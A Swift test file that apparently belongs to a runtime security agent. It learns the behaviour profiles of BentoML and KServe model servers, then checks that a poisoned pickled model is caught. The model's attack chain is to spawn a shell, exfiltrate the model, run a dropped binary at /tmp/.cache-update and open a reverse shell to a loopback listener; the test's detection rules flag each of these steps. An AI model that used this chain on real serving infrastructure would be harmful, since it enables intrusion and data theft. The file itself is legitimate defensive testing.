import Foundation
import VigilCore
import VigilProfiles
import VigilRuntime
import VigilTestSupport
import XCTest

/// Real model-serving frameworks, as a cluster runs them: BentoML (`bentoml serve`, an arbiter
/// and two workers) and KServe's model server (`kserve.ModelServer`, a parent serving gRPC and
/// two spawned HTTP workers), from PyPI (`scripts/setup-frameworks`, pinned), each serving a
/// scikit-learn model trained here, in pods of containerd's CRI: the venv and the model volume
/// mounted read-only. One node, both frameworks, one `vigil agent` with both in protect mode.
///
/// Learned under what their life holds (two replicas, REST, gRPC, probes, scrapes, a model loaded
/// and unloaded through KServe's repository API, a worker killed and respawned, a container
/// restarted), then held to that profile through the same traffic with a rollout, a killed
/// worker and a restart: no anomaly. Then a poisoned model (its unpickling runs a shell, sends
/// the model to an address never used, drops and runs a binary, opens a reverse shell) reaches
/// each, by the repository API (KServe) and by a rollout (BentoML): each step is an anomaly
/// naming the workload, killed or refused.
final class FrameworkTests: XCTestCase {
    static let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().path
    static let frameworks = repository + "/Tests/Frameworks"
    static let venv = (ProcessInfo.processInfo.environment["VIGIL_FRAMEWORKS"] ?? "/opt/vigil-frameworks") + "/venv"
    static var python: String { venv + "/bin/python" }

    /// One framework's deployment: how its pods start, where it answers, which processes are
    /// its workers.
    struct Framework: Sendable {
        var name: String
        var deployment: String
        var workload: String { "ml/deployment/\(deployment)/server" }
        /// The command of a replica on `port` (and `port + 1` for KServe's gRPC).
        var command: @Sendable (Int) -> [String]
        var environment: [String: String] = [:]
        var workingDirectory = "/app"
        /// Arguments to traffic.py for a replica on `port`.
        var traffic: @Sendable (Int, Int) -> [String]
        /// What a worker's command line holds (the processes killed to see a respawn).
        var workerMarker: String

        static let bentoml = Framework(
            name: "bentoml", deployment: "iris-bentoml",
            command: { port in
                [python, "-B", "-m", "bentoml", "serve", "bentoml_service:IrisClassifier", "--host", "127.0.0.1", "--port", "\(port)"]
            },
            // BentoML's home (its metrics and its store) must be writable; its usage reports
            // are off, as an operator sets them in a cluster with no way out.
            environment: ["BENTOML_HOME": "/tmp/bentoml", "TMPDIR": "/tmp", "BENTOML_DO_NOT_TRACK": "True",
                          "IRIS_MODEL": "/models/iris/model.joblib"],
            traffic: { port, rounds in ["bentoml", "\(port)", "\(rounds)"] },
            workerMarker: "_bentoml_impl.worker.service")

        static let kserve = Framework(
            name: "kserve", deployment: "iris-kserve",
            command: { port in
                [python, "-B", "/app/kserve_server.py", "--model_repo", "/models", "--model_name", "iris", "--workers", "2",
                 "--http_port", "\(port)", "--grpc_port", "\(port + 1)"]
            },
            traffic: { port, rounds in ["kserve", "\(port)", "\(port + 1)", "\(rounds)"] },
            workerMarker: "multiprocessing.spawn")
    }

    private static func frameworksUnavailable() -> String? {
        FileManager.default.isExecutableFile(atPath: python) ? nil
            : "needs the serving frameworks in \(venv) (scripts/setup installs them: scripts/setup-frameworks)"
    }

    private func podName(_ deployment: String, replicaSet: String) -> String {
        let letters = Array("bcdfghjklmnpqrstvwxz2456789")
        return "\(deployment)-\(replicaSet)-" + String((0..<5).map { _ in letters.randomElement()! })
    }

    private func run(_ arguments: [String], timeout: TimeInterval = 180) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: arguments[0])
        process.arguments = Array(arguments.dropFirst())
        let output = Pipe(), errors = Pipe()
        process.standardOutput = output
        process.standardError = errors
        try process.run()
        let killer = DispatchWorkItem { process.terminate() }
        DispatchQueue.global().asyncAfter(deadline: .now() + timeout, execute: killer)
        let data = output.fileHandleForReading.readDataToEndOfFile()
        let problem = errors.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        killer.cancel()
        guard process.terminationStatus == 0 else {
            throw TestSupportError(description: "\(arguments.joined(separator: " ")): exit \(process.terminationStatus): "
                + String(decoding: (problem + data).suffix(2000), as: UTF8.self))
        }
        return String(decoding: data, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines)
    }

    /// traffic.py against a replica: what it was answered (the same line every time).
    private func traffic(_ framework: Framework, port: Int, rounds: Int) throws -> String {
        try run([Self.python, "-B", Self.frameworks + "/traffic.py"] + framework.traffic(port, rounds))
    }

    private func processes(of pod: Containerd.RunningPod, cgroupMount: String) -> [(pid: Int32, command: String)] {
        let procs = (try? String(contentsOfFile: cgroupMount + pod.cgroup + "/cgroup.procs", encoding: .utf8)) ?? ""
        return procs.split(separator: "\n").compactMap { Int32($0) }.map { pid in
            let raw = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline") ?? Data()
            return (pid, String(decoding: raw.map { $0 == 0 ? 32 : $0 }, as: UTF8.self))
        }
    }

    /// SIGKILLs one worker of the pod and waits until its supervisor has started another.
    private func killAWorker(_ framework: Framework, of pod: Containerd.RunningPod, cgroupMount: String) throws {
        let workers = processes(of: pod, cgroupMount: cgroupMount).filter { $0.command.contains(framework.workerMarker) }
        let victim = try XCTUnwrap(workers.first, "\(framework.name): no worker in \(processes(of: pod, cgroupMount: cgroupMount))")
        XCTAssertEqual(workers.count, 2, "\(framework.name): two workers")
        kill(victim.pid, SIGKILL)
        let deadline = Date().addingTimeInterval(40)
        while Date() < deadline {
            let now = processes(of: pod, cgroupMount: cgroupMount).filter { $0.command.contains(framework.workerMarker) }
            if now.count == workers.count && !now.contains(where: { $0.pid == victim.pid }) { return }
            usleep(200_000)
        }
        XCTFail("\(framework.name): the killed worker was not respawned within 40 s")
    }

    func testFrameworksAreLearnedWithoutFalsePositivesAndEveryPoisonedModelIsCaught() throws {
        try KernelTestSupport.requireRoot()
        if let reason = Self.frameworksUnavailable() {
            if ProcessInfo.processInfo.environment["CI"] == "true" { XCTFail(reason) }
            throw XCTSkip(reason)
        }
        let frameworks = [Framework.bentoml, Framework.kserve]
        // A respawn can wait for BentoML's arbiter's 10 s check: the quiet period outlasts it.
        let node = try CRITests.Node(self, configuration: "protect:\n" + frameworks.map { "- workload: \($0.workload)" }.joined(separator: "\n"),
                                     quietPeriod: 25)
        let cgroupMount = try CgroupHierarchy.system().mountPoint
        let models = node.work + "/models", poisoned = node.work + "/poisoned"
        for name in ["iris", "iris-b"] { _ = try run([Self.python, "-B", Self.frameworks + "/train.py", models, "--name", name]) }
        chmod(node.work, 0o755)
        // The attacker's listeners: what reaches them got out.
        let exfil = try LoopbackCatcher(address: "127.0.0.2"), shell = try LoopbackCatcher(address: "127.0.0.2")
        let attack = ["--poison", "--exfil", "127.0.0.2:\(exfil.port)", "--shell", "127.0.0.2:\(shell.port)"]

        var nextPort = node.port + 2000
        func request(_ framework: Framework, replicaSet: String, models: String) -> (Containerd.PodRequest, Int) {
            let port = nextPort
            nextPort += 10
            var request = Containerd.PodRequest(name: podName(framework.deployment, replicaSet: replicaSet), command: framework.command(port))
            request.mounts = [Self.venv: Self.venv, "/app": Self.frameworks, "/models": models]
            request.environment = framework.environment
            request.workingDirectory = framework.workingDirectory
            return (request, port)
        }
        var expected: [String: String] = [:]

        // Learning: two replicas each, traffic, a worker killed, a container restarted.
        let learningStarted = Date()
        var learning: [String: [(pod: Containerd.RunningPod, port: Int)]] = [:]
        for framework in frameworks {
            for _ in 0..<2 {
                let (podRequest, port) = request(framework, replicaSet: "5f8d7c9b4", models: models)
                learning[framework.name, default: []].append((try node.containerd.runPod(podRequest), port))
            }
        }
        for framework in frameworks {
            for replica in learning[framework.name]! {
                let answer = try traffic(framework, port: replica.port, rounds: 5)
                XCTAssertEqual(expected[framework.name] ?? answer, answer, "\(framework.name): the same answers from each replica")
                expected[framework.name] = answer
            }
        }
        /// A worker of the first replica killed, the second's container restarted; traffic to each after.
        func killAndRestart(_ framework: Framework, _ replicas: inout [(pod: Containerd.RunningPod, port: Int)], rounds: Int) throws {
            try killAWorker(framework, of: replicas[0].pod, cgroupMount: cgroupMount)
            XCTAssertEqual(try traffic(framework, port: replicas[0].port, rounds: rounds), expected[framework.name])
            replicas[1].pod = try node.containerd.restartContainer(replicas[1].pod, attempt: 1)
            XCTAssertEqual(try traffic(framework, port: replicas[1].port, rounds: rounds), expected[framework.name])
        }
        for framework in frameworks { try killAndRestart(framework, &learning[framework.name]!, rounds: 5) }
        var stableAfter: [String: TimeInterval] = [:]
        for framework in frameworks {
            let state = try XCTUnwrap(node.profileState(framework.workload, timeout: 240), "\(framework.name): never stable\n\(node.log)")
            stableAfter[framework.name] = Date().timeIntervalSince(learningStarted)
            XCTAssertEqual(state[path: "profile.state"] as? String, "stable", "\(state)")
            let profile = try XCTUnwrap(try DirectoryProfileStore(root: node.profiles).latest(workload: framework.workload))
            print("framework: \(framework.name): stable \(Int(stableAfter[framework.name]!)) s after the first pod; "
                + "\(profile.execs.count) execs, \(profile.fileWrites.count) file-write rules, \(profile.egress.count) destinations, "
                + "\(profile.syscalls.x86_64.count) syscalls")
            for rule in profile.fileWrites { print("framework: \(framework.name): write \(rule.path) \(rule.ops)") }
            for exec in profile.execs { print("framework: \(framework.name): exec \(exec.exe) from \(exec.parent)") }
            for destination in profile.egress { print("framework: \(framework.name): egress \(destination)") }
            // The stability evidence `vigil profile show` prints: what was new last, and when.
            let recent = try XCTUnwrap(profile.learning.recentlyNew, "\(framework.name): the profile says what was new")
            XCTAssertLessThanOrEqual(recent.last!.at, profile.learning.lastNew)
            for new in recent {
                print("framework: \(framework.name): new at +\(Int(new.at.timeIntervalSince(profile.learning.started))) s: \(new.kind) \(new.rule)")
            }
        }

        // Monitoring (protected): a rollout, the same traffic, a worker killed, a restart.
        var serving: [String: [(pod: Containerd.RunningPod, port: Int)]] = [:]
        for framework in frameworks {
            for _ in 0..<2 {
                let (podRequest, port) = request(framework, replicaSet: "6b9c4d7f8", models: models)
                serving[framework.name, default: []].append((try node.containerd.runPod(podRequest), port))
            }
            for old in learning[framework.name]! { node.containerd.removePod(old.pod) }
        }
        for framework in frameworks {
            for replica in serving[framework.name]! {
                XCTAssertEqual(try traffic(framework, port: replica.port, rounds: 10), expected[framework.name])
            }
            try killAndRestart(framework, &serving[framework.name]!, rounds: 10)
        }
        usleep(1_500_000)
        let falsePositives = node.events.filter { $0["kind"] as? String == "anomaly" }
        XCTAssertEqual(falsePositives.count, 0, "normal traffic, a rollout, a respawn and a restart are not anomalies:\n"
            + falsePositives.map { "\($0)" }.joined(separator: "\n"))

        // The poisoned model: loaded through KServe's repository API; rolled out to BentoML.
        _ = try run([Self.python, "-B", Self.frameworks + "/train.py", models, "--name", "iris-next", "--model-file", "/models/iris-next/model.joblib"] + attack)
        _ = try run([Self.python, "-B", Self.frameworks + "/train.py", poisoned, "--model-file", "/models/iris/model.joblib"] + attack)
        let kserve = serving["kserve"]![0]
        _ = try? HTTP.request("POST", "/v2/repository/models/iris-next/load", port: kserve.port)
        let (bentoRequest, bentoPort) = request(.bentoml, replicaSet: "7c4f9d8b5", models: poisoned)
        let bento = try node.containerd.runPod(bentoRequest)
        _ = try? traffic(.bentoml, port: bentoPort, rounds: 1)

        for (framework, pod) in [(Framework.kserve, kserve.pod), (.bentoml, bento)] {
            func anomaly(_ rule: String, _ matches: @escaping ([String: Any]) -> Bool) -> [String: Any]? {
                node.events.first {
                    $0["kind"] as? String == "anomaly" && $0[path: "anomaly.rule"] as? String == rule
                        && $0[path: "workload.pod"] as? String == pod.request.name && matches($0)
                }
            }
            let steps: [(String, String, ([String: Any]) -> Bool, String)] = [
                ("a shell", "unexpected-exec", { $0[path: "event.process.exe"] as? String == "/usr/bin/dash" }, "killed"),
                ("the model sent out", "unexpected-egress", { $0[path: "event.network.port"] as? Int == exfil.port }, "denied"),
                ("a dropped binary run", "unexpected-exec", { $0[path: "event.process.exe"] as? String == "/tmp/.cache-update" }, "killed"),
                ("a reverse shell", "unexpected-egress", { $0[path: "event.network.port"] as? Int == shell.port }, "denied"),
            ]
            let deadline = Date().addingTimeInterval(30)
            while steps.contains(where: { anomaly($0.1, $0.2) == nil }) && Date() < deadline { usleep(200_000) }
            for (what, rule, matches, action) in steps {
                let found = anomaly(rule, matches)
                XCTAssertNotNil(found, "\(framework.name): \(what) is not reported:\n\(node.events.filter { $0["kind"] as? String == "anomaly" })")
                XCTAssertEqual(found?[path: "workload.id"] as? String, framework.workload)
                XCTAssertEqual(found?[path: "anomaly.action"] as? String, action, "\(framework.name): \(what)")
            }
        }
        XCTAssertEqual(exfil.received, 0, "the model never left")
        XCTAssertEqual(shell.received, 0, "no shell connected back")
        print("framework: stable after \(stableAfter.map { "\($0.key) \(Int($0.value)) s" }.sorted().joined(separator: ", "))")
    }
}

/// A TCP listener on a loopback address that counts the bytes it is sent (the attacker's end).
final class LoopbackCatcher: @unchecked Sendable {
    let port: Int
    private let socketFD: Int32
    private let lock = NSLock()
    private var count = 0
    var received: Int { lock.withLock { count } }

    init(address: String) throws {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var sin = sockaddr_in()
        sin.sin_family = sa_family_t(AF_INET)
        inet_pton(AF_INET, address, &sin.sin_addr)
        let bound = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
        guard fd >= 0, bound == 0, listen(fd, 8) == 0 else {
            let problem = String(cString: strerror(errno))
            if fd >= 0 { close(fd) }
            throw TestSupportError(description: "listen on \(address): \(problem)")
        }
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
        port = Int(UInt16(bigEndian: sin.sin_port))
        socketFD = fd
        Thread.detachNewThread { [weak self] in
            while true {
                let client = accept(fd, nil, nil)
                guard client >= 0 else { return }
                var buffer = [UInt8](repeating: 0, count: 65536)
                while case let n = read(client, &buffer, buffer.count), n > 0 { self?.lock.withLock { self?.count += n } }
                close(client)
            }
        }
    }

    deinit {
        shutdown(socketFD, Int32(SHUT_RDWR))
        close(socketFD)
    }
}
